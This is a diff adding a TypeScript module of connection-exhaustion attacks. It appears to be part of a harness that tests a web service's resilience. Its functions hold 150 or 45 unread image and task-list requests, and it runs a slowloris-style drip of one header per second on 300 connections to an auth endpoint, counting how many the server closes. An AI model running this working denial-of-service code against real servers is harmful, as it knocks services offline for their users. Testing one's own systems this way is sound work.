@@ -1,0 +1,54 @@
+import { connect, type Socket } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { ATTACKER_ADDRESS, type Attack, type Target } from '../target.ts';
+
+/** Opens connections that send `text` and never read; answers how many the server had closed at the end. */
+async function holdConnections({ baseUrl, seconds }: Target, count: number, text: string, drip = ''): Promise<number> {
+  const { hostname, port } = new URL(baseUrl);
+  let closed = 0;
+  const sockets: Socket[] = [];
+  for (let n = 0; n < count; n++) {
+    const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER_ADDRESS });
+    socket.pause();
+    socket.on('error', () => undefined);
+    socket.once('close', () => {
+      closed += 1;
+    });
+    socket.write(text);
+    sockets.push(socket);
+  }
+  for (let second = 0; second < seconds; second++) {
+    await sleep(1_000);
+    if (drip) for (const socket of sockets) if (!socket.destroyed) socket.write(drip);
+  }
+  // A socket that does not read learns of the end only by reading.
+  for (const socket of sockets) socket.resume();
+  await sleep(500);
+  const byServer = closed;
+  for (const socket of sockets) socket.destroy();
+  return byServer;
+}
+
+const requestOf = ({ baseUrl, headers }: Target, path: string) =>
+  `GET ${path} HTTP/1.1\r\nHost: ${new URL(baseUrl).host}\r\n${Object.entries(headers)
+    .map(([name, value]) => `${name}: ${value}\r\n`)
+    .join('')}\r\n`;
+
+/** Asks for a large image on many connections and reads none of it. */
+export const unreadImages: Attack = async (target) => {
+  const closed = await holdConnections(target, 150, requestOf(target, `/api/get_image/${target.fileId}`));
+  return `150 connections that ask for an image and do not read: ${closed} closed`;
+};
+
+/** Asks for the longest list on many connections and reads none of it. */
+export const unreadLists: Attack = async (target) => {
+  const closed = await holdConnections(target, 45, requestOf(target, '/api/tasks'));
+  return `45 connections that ask for all tasks and do not read: ${closed} closed`;
+};
+
+/** Sends a header a second and never ends. */
+export const slowHeaders: Attack = async (target) => {
+  const start = `POST /api/auth/telegram HTTP/1.1\r\nHost: ${new URL(target.baseUrl).host}\r\n`;
+  const closed = await holdConnections(target, 300, start, 'X-A: b\r\n');
+  return `300 connections that send a header a second: ${closed} closed`;
+};
